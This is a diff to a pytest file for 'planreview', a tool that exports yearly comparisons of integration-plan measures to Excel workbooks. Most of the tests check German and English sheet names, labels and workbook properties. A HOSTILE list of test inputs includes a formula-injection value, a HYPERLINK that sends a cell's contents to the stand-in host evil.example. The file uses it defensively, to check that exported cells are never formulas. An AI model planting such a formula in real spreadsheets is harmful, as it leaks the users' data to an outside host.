@@ -9,13 +9,7 @@ import pytest
 from conftest import run_cli
 from openpyxl import Workbook
 
-from planreview.export.workbook import (
-    ALL_SHEET,
-    SHEET_ORDER,
-    SUMMARY_SHEET,
-    change_labels,
-    safe_cell,
-)
+from planreview.export.workbook import ALL_SHEET, SHEET_ORDER, SUMMARY_SHEET, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
@@ -105,13 +99,29 @@ def test_no_cell_is_a_formula(exported):
     assert {HOSTILE[0], "+1", "-2", "@SUM(A1:A9)", "=1+1", "=A1", HOSTILE[6]} <= texts
 
 
+# The sheet of each change class in SHEET_ORDER, named as the report calls the class.
+CLASS_SHEETS = {
+    "de": [
+        "Vorangekommen", "Zurückgefallen", "Neu aufgenommen", "Nicht mehr berichtet",
+        "Entfallen", "Zurückgestellt", "Wieder aufgenommen", "Seit Jahren unverändert",
+        "Überfällig", "Unverändert", "Keine Rückmeldung",
+    ],
+    "en": [
+        "Progressed", "Regressed", "New", "No longer reported", "Dropped", "Postponed",
+        "Resumed", "Unchanged for years", "Overdue", "Unchanged", "No answer",
+    ],
+}  # fmt: skip
+
+
 def test_sheets_one_per_class_and_a_summary(exported):
     assert exported.sheetnames == [
-        ALL_SHEET,
-        *(change_labels()[k] for k in SHEET_ORDER),
-        SUMMARY_SHEET,
+        "Alle Maßnahmen",
+        *CLASS_SHEETS["de"],
+        "Nach Handlungsfeld",
         "Prüfprotokoll",
     ]
+    assert (ALL_SHEET, SUMMARY_SHEET) == ("Alle Maßnahmen", "Nach Handlungsfeld")
+    assert exported.properties.language == "de-DE"
     for sheet in exported.worksheets:
         assert sheet.freeze_panes in ("A2", "B2", "C2"), sheet.title
         assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
@@ -139,7 +149,8 @@ def test_all_measures_with_both_statuses_and_the_change(exported):
 
 
 def test_each_class_sheet_lists_its_measures(exported):
-    ids = {k: [r["Nr."] for r in _rows(exported[change_labels()[k]])] for k in SHEET_ORDER}
+    names = dict(zip(SHEET_ORDER, CLASS_SHEETS["de"], strict=True))
+    ids = {k: [r["Nr."] for r in _rows(exported[names[k]])] for k in SHEET_ORDER}
     assert ids == {
         "progressed": ["1.1"],
         "regressed": [],
@@ -174,3 +185,57 @@ def test_xlsx_without_file_name_goes_beside_the_pdf(tmp_path, monkeypatch):
     assert (code, err) == (0, "")
     assert (tmp_path / "reports" / "bericht-2020.xlsx").is_file()
     assert "reports/bericht-2020.xlsx" in out
+
+
+def _export(tmp_path, *options):
+    """The hostile inputs' 2020 exported with the given options."""
+    inputs = tmp_path / "inputs"
+    _csv(inputs / "Stand_2019.csv", [["1.1", "Sprache", "Kurs", "VHS", "2021", "laufend", "", ""]])
+    _csv(inputs / "Stand_2020.csv", [["1.1", "Sprache", "Kurs", "VHS", "2021", "erledigt", "", ""]])
+    target = tmp_path / "vergleich.xlsx"
+    code, _, err = run_cli(
+        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--xlsx", str(target), *options
+    )
+    assert code == 0, err
+    return openpyxl.load_workbook(target)
+
+
+def test_the_workbook_in_english_with_lang_en(tmp_path):
+    exported = _export(tmp_path, "--lang", "en")
+    assert exported.sheetnames == [
+        "All measures",
+        *CLASS_SHEETS["en"],
+        "By field of action",
+        "Check protocol",
+    ]
+    assert exported.properties.title == "Integrationskonzept: 2020 compared with 2019"
+    assert exported.properties.language == "en-GB"
+    (row,) = _rows(exported["All measures"])
+    assert (row["No."], row["Status 2019"], row["Status 2020"], row["Change"]) == (
+        "1.1",
+        "in progress",
+        "implemented",
+        "Progressed",
+    )
+    assert {"Unchanged for years", "Overdue"} <= set(row)
+    summary = {r["Field of action"]: r for r in _rows(exported["By field of action"])}
+    assert list(summary) == ["Sprache", "Total"]
+    assert summary["Sprache"]["implemented 2020"] == 1
+    assert summary["Total"]["Progressed"] == 1
+
+
+def test_the_change_classes_named_by_the_templates_used(tmp_path):
+    import shutil
+
+    from planreview.resources import default_templates
+
+    templates = tmp_path / "vorlagen"
+    shutil.copytree(default_templates(), templates)
+    labels = templates / "labels.toml"
+    text = labels.read_text(encoding="utf-8")
+    assert 'progressed = "Vorangekommen"' in text
+    labels.write_text(text.replace('progressed = "Vorangekommen"', 'progressed = "Weiter"', 1))
+    exported = _export(tmp_path, "--templates", str(templates))
+    assert exported.sheetnames[1] == "Weiter"
+    (row,) = _rows(exported["Alle Maßnahmen"])
+    assert row["Veränderung"] == "Weiter"
